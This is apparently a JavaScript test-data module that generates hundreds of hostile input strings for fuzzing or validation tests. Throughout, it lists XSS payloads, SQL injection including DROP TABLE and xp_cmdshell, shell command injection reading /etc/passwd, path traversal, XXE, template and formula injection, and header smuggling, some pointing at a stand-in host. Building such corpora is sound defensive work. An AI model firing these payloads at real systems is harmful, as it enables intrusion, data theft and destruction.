// Five hundred strings that have broken something somewhere: of each well-known kind some, each in several dresses. Every one
// that a browser could carry out calls alert(), or fetches from http://hostile.invalid.
//
// An item is { kind, value, json }: json are the bytes that stand in a body for it; value is missing where no server may
// take them.

const CALL = 'alert(1)';
const FETCH = 'http://hostile.invalid/x';

const tags = [
  `<script>${CALL}</script>`, `<img src=x onerror=${CALL}>`, `<svg onload=${CALL}>`, `<body onload=${CALL}>`, `<iframe src="javascript:${CALL}"></iframe>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`, `<details open ontoggle=${CALL}>`, `<video><source onerror=${CALL}></video>`,
  `<audio src=x onerror=${CALL}>`, `<input autofocus onfocus=${CALL}>`, `<select autofocus onfocus=${CALL}>`, `<textarea autofocus onfocus=${CALL}>`,
  `<marquee onstart=${CALL}>`, `<object data="javascript:${CALL}"></object>`, `<embed src="javascript:${CALL}">`, `<a href="javascript:${CALL}">x</a>`,
  `<form action="javascript:${CALL}"><button>x</button></form>`, `<button formaction="javascript:${CALL}" form=x>x</button>`, `<math><mtext><script>${CALL}</script></mtext></math>`,
  `<svg><script>${CALL}</script></svg>`, `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:${CALL}"><text>x</text></a></svg>`,
  `<link rel=stylesheet href=${FETCH}>`, `<style>@import '${FETCH}';</style>`, `<div style="background:url(${FETCH})">`, `<img src=${FETCH}>`, `<base href=${FETCH}>`,
  `<meta http-equiv=refresh content="0;url=${FETCH}">`, `<template><script>${CALL}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<table background=${FETCH}>`, `<isindex type=image src=1 onerror=${CALL}>`, `<x onclick=${CALL} autofocus tabindex=1 onfocus=${CALL}>x</x>`, `<!--<img src="--><img src=x onerror=${CALL}//">`,
];
const breakouts = ['">', "'>", '</title>', '</textarea>', '</script>', '</style>', '-->', ']]>', '"; ', "'; ", '`', '\\"', '</p>'];
const handlers = ['"', "'", '`'].flatMap((q) => ['onmouseover', 'onfocus', 'onerror', 'onanimationstart'].map((on) => `${q} ${on}=${CALL} autofocus x=${q}`));
const schemes = [`javascript:${CALL}`, `JaVaScRiPt:${CALL}`, `java\tscript:${CALL}`, `java\nscript:${CALL}`, ` javascript:${CALL}`, `\u0001javascript:${CALL}`, `javascript&colon;${CALL}`,
  `javascript://x.example/%0a${CALL}`, `data:text/html,<script>${CALL}</script>`, 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', `vbscript:${CALL}`, 'file:///etc/passwd',
  `[x](javascript:${CALL})`, `![x](${FETCH})`, `[x](data:text/html,<script>${CALL}</script>)`, `<javascript:${CALL}>`, `[x]: javascript:${CALL}`];
const scripts = [`';${CALL};'`, `";${CALL};"`, `\`\${${CALL}}\``, `-${CALL}-`, `'-${CALL}-'`, `\\';${CALL};//`, `{{constructor.constructor('${CALL}')()}}`, `\${${CALL}}`, `#{${CALL}}`, `<%= ${CALL} %>`,
  '{{7*7}}', '${7*7}', '#{7*7}', '<%= 7*7 %>', '{{config}}', '{% debug %}', '@(7*7)', '[[${7*7}]]', '${{<%[%\'"}}%\\', '{{_self.env.display("x")}}', '${T(java.lang.Runtime)}', '*{7*7}'];
const sql = ["' OR '1'='1", "' OR 1=1 -- ", '" OR ""="', "'; DROP TABLE message; -- ", "1; SELECT SLEEP(5)", "' UNION SELECT password FROM user -- ", "\\' OR 1=1 #", "admin'--", "') OR ('1'='1",
  "' AND SLEEP(5) AND '1'='1", "1' ORDER BY 99 -- ", "'||(SELECT 1)||'", "%' OR '%'='", "_%_%", "\\%\\_", "'/*!50000OR*/1=1", "0x27204f52", "' INTO OUTFILE '/tmp/x' -- ", "@@version", "' AND EXTRACTVALUE(1,CONCAT(0x7e,USER())) -- ",
  "'; EXEC xp_cmdshell('dir'); -- ", "' OR pg_sleep(5)--", '`; DROP TABLE user; `', "\u02bc OR 1=1", "\uff07 OR 1=1"];
const shells = ['; id', '| id', '`id`', '$(id)', '&& id', '|| id', '\n id', '; cat /etc/passwd', '$(sleep 5)', '() { :;}; id', '& ping -c 1 127.0.0.1 &', '%0aid', "'; id; '", '> /tmp/x', '${IFS}id', '--help', '-rf /', '@file', '~root', '*'];
const paths = ['../../../../etc/passwd', '..\\..\\..\\windows\\win.ini', '/etc/passwd', '....//....//etc/passwd', '%2e%2e%2fetc%2fpasswd', '..%252f..%252fetc/passwd', '..%c0%af..%c0%afetc/passwd', 'file:///etc/passwd',
  '/dev/null', 'CON', 'C:\\', '\\\\host\\share', '.htaccess', '/proc/self/environ', 'x\u0000.png', '%00', '.', '..', '/', '//'];
const formats = ['%s%s%s%s', '%n%n%n%n', '%x %p %d', '%99999999s', '%1$*1$x', '%%', '%', '{0}', '{}', '%(x)s', '$1', '\\1', '%u0041', '&#x41;', '&lt;b&gt;', '&amp;amp;', '\\x41', '\\u0041', '\\n', '\\\\'];
const structures = ['{"a":1}', '","admin":true,"x":"', '"}', '[]', '{}', 'null', 'true', 'NaN', 'undefined', '__proto__', 'constructor', '{"__proto__":{"x":1}}', '{"$gt":""}', '[$ne]=1', '=1+1', "=cmd|' /C calc'!A0", '+1+1', '-1+1', '@SUM(1)',
  '=HYPERLINK("http://hostile.invalid")', '\tx', 'a,b;"c"', 'a\r\nSet-Cookie: x=1', 'a\r\n\r\n<b>', 'x\nLocation: http://hostile.invalid', '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '<!DOCTYPE x [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]>', '*)(uid=*', 'x)(|(x=*', "' or count(/*)=1 or 'a'='b", '{"event":"pusher:error","data":{}}', '42["message",{}]', 'a: !!python/object:x', '- &a [*a]'];
const numbers = ['0', '-1', '1e309', '-0', '9223372036854775808', '18446744073709551616', '0x7fffffff', '1/0', '٣', '１２', '00', '1,000', 'Infinity', '1e-400'];
const bidi = ['\u202e', '\u202d', '\u2066', '\u2067', '\u2068', '\u200e', '\u200f', '\u061c'].flatMap((c) => [`${c}gpj.exe`, `a${c}b`, `${c.repeat(20)}x`]);
const invisible = ['\u200b', '\u200c', '\u200d', '\u2060', '\ufeff', '\u00ad', '\u180e', '\u3164', '\uffa0', '\u115f', '\u{e0041}', '\ufe0f', '\u2800', '\u00a0', '\u3000', '\u2028', '\u2029', '\u0085'].flatMap((c) => [`a${c}b`, `${c}x`, c]);
const controls = [...Array.from({ length: 32 }, (_, i) => i).filter((i) => i !== 0), 127].map((i) => `a${String.fromCharCode(i)}b`);
const marks = ['z\u0351\u0352\u0353', 'e\u0301', '\u0301', `a${'\u0300'.repeat(25)}`, '\u0e01\u0e49\u0e49\u0e49', '\u1100\u1161\u11a8', '\u3131', 'ﷺ', '﷽', '𒈙', '꧅', 'ﬀ', 'İ', 'ı', 'ß', 'ǅ', 'Å', 'Ω', '¹', '½', '①', '㈱', '\u{1d552}', 'ａ', 'а', 'ο'];
const emoji = ['👩‍👩‍👧‍👦', '🏴󠁧󠁢󠁥󠁮󠁧󠁿', '🇰🇷', '👍🏿', '1️⃣', '🏳️‍🌈', '👨🏻‍❤️‍💋‍👨🏿', '\u200d👩', '🏿', '🇦', '❤', '❤️', '☺︎', '🫠', '🪿', '👁️‍🗨️'];
const edges = ['\uffff', '\ufffe', '\ufdd0', '\u{1ffff}', '\u{10ffff}', '\ue000', '\ufffd', '\ud7ff', '\u{10000}', ' ', '\n', '\r\n', '  x  ', '\u00a0x'];
const scriptsOfPeople = ['한국어 <b>굵게</b>', '日本語\'"', 'العربية <i>', 'עברית"', 'ไทย', 'हिन्दी', '中文；DROP', 'ｶﾀｶﾅ', 'ᄒᆞᆫ글', '𠮷野家', 'تاریخ‌ها', 'বাংলা'];
const long = (n) => [`<script>${CALL}</script>`, '한', '🙂', 'a\u0301', '\\', '"', '<', '%s', '\u0001', '\u202e'].map((text) => text.repeat(Math.ceil(n / text.length)).slice(0, n - n % 2));

const item = (kind, value) => ({ kind, value, json: Buffer.from(JSON.stringify(value)) });
const refused = (kind, bytes) => ({ kind, json: Buffer.concat([Buffer.from('"a'), Buffer.from(bytes), Buffer.from('b"')]) });
const escape = (text) => [...text].map((c) => c.charCodeAt(0));

// What is no text: halves of surrogate pairs and U+0000 written as escapes, and bytes that are no UTF-8.
const broken = [
  ...['\\ud800', '\\udfff', '\\ud83d', '\\udc00\\ud800', '\\ud800\\ud800', '\\ud83dx', '\\u0000', '\\ud800\\u0041', '\\udbff'].map((text) => refused('surrogate', escape(text))),
  ...[[0xc0, 0xaf], [0xe0, 0x80, 0xaf], [0xf0, 0x80, 0x80, 0xaf], [0xc1, 0xbc], [0xc0, 0x80], [0xed, 0xa0, 0x80], [0xed, 0xbf, 0xbf], [0xf4, 0x90, 0x80, 0x80], [0xf8, 0x88, 0x80, 0x80, 0x80],
    [0xfe], [0xff], [0x80], [0xbf], [0xe2, 0x82], [0xf0, 0x9f, 0x99], [0xc3], [0xc3, 0x28], [0xa0, 0xa1]].map((bytes) => refused('no UTF-8', bytes)),
  ...[0, 1, 8, 10, 13, 31].map((byte) => refused('bare control', [byte])),
  ...['\\x41', '\\ ', '\\u12', '\\uzzzz'].map((text) => refused('bad escape', escape(text))),
];

export function hostileStrings(count = 500) {
  const kinds = { tags, handlers, schemes, scripts, sql, shells, paths: paths.filter((text) => !text.includes('\0')), formats, structures, numbers, bidi, invisible, controls, marks, emoji, edges,
    scriptsOfPeople, long: [...long(30), ...long(100), ...long(1000), ...long(4000), ...long(5000)] };
  const plain = Object.entries(kinds).flatMap(([kind, texts]) => [...new Set(texts)].map((text) => item(kind, text)));
  const all = [...broken, ...plain];
  // Each tag behind what might end the place in which it stands.
  for (const before of breakouts) for (const tag of tags) if (all.length < count) all.push(item('breakout', `${before}${tag}`));
  return all;
}
